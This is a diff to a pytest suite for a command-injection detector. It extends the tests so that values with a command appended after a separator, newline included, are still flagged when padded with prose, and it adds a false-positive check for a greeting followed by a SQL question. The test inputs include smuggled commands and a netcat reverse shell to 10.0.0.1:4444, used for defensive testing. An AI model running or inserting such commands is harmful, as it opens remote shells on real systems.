@@ -287,7 +287,7 @@ def test_sentences_padded_onto_a_breakout_do_not_make_it_prose(
 
 
 @pytest.mark.parametrize("prefix", ["x", "report.pdf"])
-@pytest.mark.parametrize("separator", ["; ", "| ", "&& "])
+@pytest.mark.parametrize("separator", ["; ", "| ", "&& ", "\n"])
 @pytest.mark.parametrize("command", ["id", "sleep 5", "nc 10.0.0.1 4444 -e /bin/sh"])
 @pytest.mark.parametrize("end", ["; ", " # ", " & "])
 def test_a_command_injected_after_a_value_survives_padding(
@@ -297,6 +297,14 @@ def test_a_command_injected_after_a_value_survives_padding(
     by sentences: the padding dilutes the model's features and makes the value read as prose,
     and neither may cost the detection."""
     assert engine.detect(prefix + separator + command + end + PADDING)["is_threat"]
+
+
+def test_a_greeting_line_keeps_a_message_prose() -> None:
+    """A line break after the first token is a breakout only after a bare token: a message that
+    opens with a greeting line still reads as the prose it is."""
+    message = ("Hi,\nI tried SELECT * FROM users WHERE id = 1 and it returned nothing, what is "
+               "wrong with the query?")
+    assert not DetectionEngine().detect(message)["is_threat"]
 
 
 @pytest.mark.parametrize(
